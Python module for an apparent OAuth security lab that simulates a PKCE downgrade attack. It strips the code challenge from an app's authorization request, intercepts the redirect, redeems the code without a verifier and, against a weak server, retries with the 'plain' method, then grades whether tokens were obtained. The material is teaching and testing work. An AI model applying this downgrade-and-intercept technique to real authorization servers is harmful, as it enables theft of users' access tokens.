"""Lab "pkce-downgrade": the app's authorization request loses its code_challenge
on the way; a server where PKCE is optional issues and redeems the code anyway
(RFC 9700 §4.8, §2.1.1; RFC 7636 §4.4.1).

Against the learner's own weak server the other app cannot know which weakness it
has: refused without a challenge, it tries the app's request once more with
``code_challenge_method=plain``, the challenge as it read it, which a server
accepting ``plain`` takes as the verifier (RFC 7636 §7.2)."""

from __future__ import annotations

from collections.abc import Mapping
from urllib.parse import urlencode
from urllib.parse import urlsplit

from flowlab.core.http import Exchange
from flowlab.core.http import Message
from flowlab.core.runner.capture import exchange_of
from flowlab.labs import client
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import NOT_FOUND
from flowlab.labs.page import Answer
from flowlab.labs.page import Incoming
from flowlab.labs.page import redirect
from flowlab.labs.store import Run

STRIPPED = ("code_challenge", "code_challenge_method")


def start_login(run: Run, lab: Lab, config: Mapping) -> str:
    """The app's own request, state and S256 challenge made as usual; the phone
    opens it in the other app first (the attacker's ``authorize``)."""
    asked = urlsplit(client.start_login(run, lab, config)).query
    return (f"{config['LABS_ATTACKER_URL']}/labs/{run.lab}/{run.id}/as/authorize?"
            + asked)


def serve(run: Run, lab: Lab, endpoint: str, config: Mapping,
          sent: Incoming) -> Answer:
    """``authorize``: the request passed on to the real server without its
    challenge (RFC 7636 §4.3 parameters removed)."""
    if endpoint != "authorize":
        return NOT_FOUND
    run.attacker["asked"] = dict(sent.args)  # the app's request, challenge and all
    params = {name: value for name, value in sent.args.items()
              if name not in STRIPPED}
    url = run.origin + client.issuer_path(run, lab) + "/authorize?" + urlencode(params)
    answer = Message("HTTP/1.1 302 Found", [("Location", url)])
    run.record("downgraded", "attacker", "front",
               Exchange(sent.message, answer, url=sent.url))
    return redirect(url, 302)


def _tries_plain(run: Run) -> bool:
    """Only against the learner's weak server (its run carries the configuration),
    and only with the app's challenge in hand."""
    return "weak_server" in run.client and "code_challenge" in run.attacker.get(
        "asked", {})


def _plain(run: Run, lab: Lab, sent: Incoming) -> Answer:
    """The app's request again, its challenge kept but its method ``plain``."""
    params = {**run.attacker["asked"], "code_challenge_method": "plain"}
    url = run.origin + client.issuer_path(run, lab) + "/authorize?" + urlencode(params)
    answer = Message("HTTP/1.1 302 Found", [("Location", url)])
    run.record("downgraded-plain", "attacker", "front",
               Exchange(sent.message, answer, url=sent.url))
    return redirect(url, 302)


def intercept(run: Run, lab: Lab, config: Mapping, sent: Incoming) -> Answer | None:
    """The redirect, handed to the other app; a code is redeemed at once, once,
    without a verifier (it never had one; RFC 6749 §4.1.3)."""
    run.record("intercepted", "attacker", "front", sent.exchange())
    code = sent.args.get("code")
    if not code and _refused(run.entries("intercepted")[-1]) and _tries_plain(run) \
            and not run.entries("downgraded-plain"):
        return _plain(run, lab, sent)
    if not code or run.entries("attacker-token"):
        return None
    form = {"grant_type": "authorization_code", "code": code,
            "redirect_uri": client.redirect_uri(run)}
    if run.entries("downgraded-plain"):  # the challenge it read is the verifier
        form["code_verifier"] = run.attacker["asked"]["code_challenge"]
    session, response = client.token_request(run, lab, config, form)
    run.record("attacker-token", "attacker", "back", exchange_of(session, response))
    if response.ok:
        client.call_me(run, config, response.json()["access_token"],
                       key="attacker-me", actor="attacker",
                       api=client.server_path(run, lab))


def _refused(entry) -> bool:
    """A redirect carrying the server's refusal of a request without a challenge
    (RFC 7636 §4.4.1), not a cancel (``access_denied``)."""
    found = wire.query(entry)
    return (found.get("error") == "invalid_request"
            and "challenge" in found.get("error_description", "").lower())


def attacker_view(run: Run, lab: Lab) -> dict:
    """What the other app got: tokens, the server's refusal, or nothing yet."""
    token = run.entries("attacker-token")
    if token and token[-1].exchange.response is not None:
        answer = token[-1].exchange.response
        return {"heading": "The other app caught the redirect",
                "text": "It redeemed the code at once, without a verifier. The"
                        " token endpoint answered:",
                "shown": answer.start_line + "\n\n" + answer.pretty_body()}
    refused = [entry for entry in run.entries("intercepted") if _refused(entry)]
    if refused:
        return {"heading": "The other app caught the redirect",
                "text": "It carried no code, only the server's refusal:",
                "shown": refused[-1].exchange.request.start_line}
    return {"heading": "Nothing caught yet",
            "text": "Sign in with the sandbox in the lab: the request passes"
                    " through here first."}


def succeeded(run: Run) -> bool | None:
    """On the wire: did the other app's token request get tokens without the
    app's verifier (none, or the challenge it read: True), or did the server
    refuse the stripped request, and the plain one if it tries that too (False)?
    None until one shows (a cancelled sign-in brings an error that decides
    nothing; nor does the first refusal while the plain try is still to come)."""
    token = run.entries("attacker-token")
    read = run.attacker.get("asked", {}).get("code_challenge")
    if token and wire.status(token[0]) == 200 \
            and wire.form(token[0]).get("code_verifier") in (None, read):
        return True
    stripped = all("code_challenge" not in wire.location(entry)
                   for entry in run.entries("downgraded"))
    refused = any(_refused(entry) for entry in run.entries("intercepted"))
    if not (stripped and refused) or not _tries_plain(run):
        return False if stripped and refused else None
    plain = run.entries("downgraded-plain")
    after = wire.since(run, plain[-1]) if plain else []
    return False if any(e.key == "intercepted" and _refused(e) for e in after) \
        else None
